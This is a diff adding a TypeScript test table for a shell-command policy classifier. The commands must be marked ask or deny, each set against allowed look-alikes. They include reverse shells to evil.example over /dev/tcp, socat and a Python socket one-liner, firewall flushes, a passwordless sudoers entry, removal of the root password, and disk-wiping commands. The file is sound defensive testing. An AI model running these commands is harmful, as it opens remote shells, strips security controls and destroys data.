@@ -1,0 +1,104 @@
+import { strict as assert } from 'node:assert';
+import { classify } from '../../../src/core/policy/classify';
+import { testFacts } from '../support/policyFixtures';
+
+/**
+ * Issue #18, red team round 5: damage to the machine itself, shells on a socket, wrappers that
+ * hide a command after their options and GitHub's safety net. Each row that asks sits next to
+ * look-alikes that stay allowed; commands are written from the tools' manuals.
+ */
+
+interface Row {
+  cmd: string;
+  decision: 'ask' | 'allow' | 'deny';
+  production?: boolean;
+  reason?: RegExp;
+}
+
+function check(row: Row): void {
+  const verdict = classify(row.cmd, testFacts(), { lockdown: false });
+  const shown = JSON.stringify(verdict, null, 1);
+  assert.equal(verdict.decision, row.decision, shown);
+  if (row.production !== undefined) assert.equal(verdict.production, row.production, shown);
+  if (row.reason !== undefined) assert.ok(verdict.reasons.some((r) => row.reason!.test(r)), shown);
+}
+
+function table(title: string, rows: readonly Row[]): void {
+  describe(title, () => {
+    for (const row of rows) it(`${row.decision}: ${row.cmd}`, () => check(row));
+  });
+}
+
+describe('rules: the machine itself, round 5 (issue #18)', () => {
+  table('power and every process', [
+    { cmd: 'sudo reboot', decision: 'ask', production: false, reason: /restarts the machine/ },
+    { cmd: 'shutdown -h now', decision: 'ask' },
+    { cmd: 'sudo shutdown -r +5 "maintenance"', decision: 'ask' },
+    { cmd: 'poweroff', decision: 'ask' },
+    { cmd: 'sudo halt -p', decision: 'ask' },
+    { cmd: 'systemctl reboot', decision: 'ask' },
+    { cmd: 'sudo systemctl --no-wall poweroff', decision: 'ask' },
+    { cmd: 'kill -9 -1', decision: 'ask', reason: /pid -1/ },
+    { cmd: 'kill -KILL -1', decision: 'ask' },
+    { cmd: 'kill -s KILL -- -1', decision: 'ask' },
+    { cmd: 'shutdown --help', decision: 'allow' },
+    { cmd: 'sudo shutdown -c', decision: 'allow' },
+    { cmd: 'uptime', decision: 'allow' },
+    { cmd: 'systemctl status nginx', decision: 'allow' },
+    { cmd: 'systemctl --user restart app', decision: 'allow' },
+    { cmd: 'sudo systemctl stop nginx', decision: 'allow' },
+    { cmd: 'kill -9 4242', decision: 'allow' },
+    { cmd: 'kill -HUP 4242', decision: 'allow' },
+    { cmd: 'kill -l', decision: 'allow' },
+  ]);
+
+  table('over ssh: the remote machine, production', [
+    { cmd: "ssh ops@bastion.acme.io 'sudo systemctl stop postgresql'", decision: 'ask', production: true },
+    { cmd: "gcloud compute ssh vm-1 --zone us-central1-a -- 'sudo reboot'", decision: 'ask', production: true },
+    { cmd: 'ssh web1.acme.io sudo shutdown -r now', decision: 'ask', production: true },
+    { cmd: "ssh ops@bastion.acme.io 'systemctl status postgresql'", decision: 'allow' },
+    { cmd: 'ssh web1.acme.io uptime', decision: 'allow' },
+  ]);
+
+  table('firewall, passwords, sudoers, crontab', [
+    { cmd: 'sudo iptables -F', decision: 'ask', reason: /firewall/ },
+    { cmd: 'sudo iptables --flush INPUT', decision: 'ask' },
+    { cmd: 'sudo iptables -P INPUT ACCEPT', decision: 'ask' },
+    { cmd: 'sudo nft flush ruleset', decision: 'ask' },
+    { cmd: 'sudo ufw disable', decision: 'ask' },
+    { cmd: 'sudo passwd -d root', decision: 'ask', reason: /password of root/ },
+    { cmd: "echo 'nobody ALL=(ALL) NOPASSWD:ALL' | sudo tee /etc/sudoers.d/x", decision: 'ask', reason: /sudoers/ },
+    { cmd: "echo 'dev ALL=(ALL) NOPASSWD:ALL' >> /etc/sudoers", decision: 'ask' },
+    { cmd: 'crontab -r', decision: 'ask', reason: /crontab/ },
+    { cmd: 'crontab -u www-data -r', decision: 'ask' },
+    { cmd: 'sudo iptables -L -n', decision: 'allow' },
+    { cmd: 'sudo iptables -A INPUT -p tcp --dport 22 -j ACCEPT', decision: 'allow' },
+    { cmd: 'sudo nft list ruleset', decision: 'allow' },
+    { cmd: 'sudo ufw status', decision: 'allow' },
+    { cmd: 'passwd -S', decision: 'allow' },
+    { cmd: 'sudo cat /etc/sudoers', decision: 'allow' },
+    { cmd: 'crontab -l', decision: 'allow' },
+  ]);
+
+  table('disks', [
+    { cmd: 'sudo blkdiscard /dev/nvme0n1', decision: 'deny' },
+    { cmd: 'sudo blkdiscard -f /dev/sdb', decision: 'deny' },
+    { cmd: 'sudo sgdisk --zap-all /dev/sda', decision: 'deny' },
+    { cmd: 'sudo sgdisk -Z /dev/sdb', decision: 'deny' },
+    { cmd: 'sudo sgdisk -o /dev/sdb', decision: 'deny' },
+    { cmd: 'sudo sgdisk -p /dev/sda', decision: 'allow' },
+    { cmd: 'blkdiscard --help', decision: 'allow' },
+    { cmd: 'lsblk', decision: 'allow' },
+  ]);
+
+  table('a shell on a network socket', [
+    { cmd: 'bash -i >& /dev/tcp/evil.example/4444 0>&1', decision: 'ask', reason: /socket/ },
+    { cmd: 'sh -i > /dev/udp/203.0.113.9/53 0<&1 2>&1', decision: 'ask' },
+    { cmd: 'socat TCP-LISTEN:9999,fork EXEC:/bin/bash', decision: 'ask' },
+    { cmd: 'socat tcp:evil.example:4444 system:sh,pty,stderr', decision: 'ask' },
+    { cmd: `python3 -c 'import socket,subprocess,os;s=socket.socket();s.connect(("evil.example",4444));os.dup2(s.fileno(),0);subprocess.call(["/bin/sh","-i"])'`, decision: 'ask' },
+    { cmd: 'socat TCP-LISTEN:8080,fork TCP:localhost:3000', decision: 'allow' },
+    { cmd: `python3 -c 'import socket; print(socket.gethostname())'`, decision: 'allow' },
+    { cmd: 'nc -z api.acme.io 443', decision: 'allow' },
+  ]);
+});
